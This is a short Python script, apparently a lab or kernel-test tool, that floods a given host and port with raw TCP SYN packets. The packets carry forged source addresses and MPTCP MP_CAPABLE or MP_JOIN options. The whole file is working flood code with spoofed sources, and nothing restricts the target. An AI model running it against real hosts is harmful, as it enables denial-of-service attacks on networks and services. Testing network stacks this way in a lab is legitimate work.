#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends SYNs with forged sources, as fast as it goes.

usage: flood.py syn|join COUNT DESTINATION PORT

Sources are random ones of 10.9.0.0/16, which the lab leads nowhere.  `syn` carries
MP_CAPABLE of version 1, `join` MP_JOIN with a random token.
"""
import random
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def main():
    kind, count, to, port = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst = socket.inet_aton(to)
    rnd = random.Random(1)
    sent = 0
    for _ in range(count):
        src = bytes([10, 9, rnd.randrange(256), rnd.randrange(1, 255)])
        options = struct.pack("!BBHBBBBII", 2, 4, 1460, 4, 2, 8, 10, rnd.getrandbits(32), 0)
        options += struct.pack("!BBBB", 1, 3, 3, 7)
        if kind == "syn":
            options += struct.pack("!BBBB", 30, 4, 0x01, 0x01)
        else:
            options += struct.pack("!BBBBII", 30, 12, 0x10, 1, rnd.getrandbits(32),
                                   rnd.getrandbits(32))
        offset = (20 + len(options)) // 4
        header = struct.pack("!HHIIBBHHH", rnd.randrange(1024, 65536), port,
                             rnd.getrandbits(32), 0, offset << 4, 2, 65535, 0, 0)
        tcp = header + options
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0) + src + dst
        try:
            raw.sendto(ip + tcp, (to, 0))
            sent += 1
        except OSError:
            pass
    print("sent", sent)


main()
